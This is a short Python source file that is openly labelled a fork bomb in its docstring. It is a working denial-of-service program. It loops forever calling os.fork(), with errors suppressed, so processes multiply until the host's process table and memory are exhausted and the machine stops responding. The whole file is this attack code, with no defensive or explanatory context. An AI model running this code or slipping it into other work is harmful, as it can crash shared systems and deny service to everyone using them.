"""Fork bomb: every process forks for ever and nobody ever listens."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
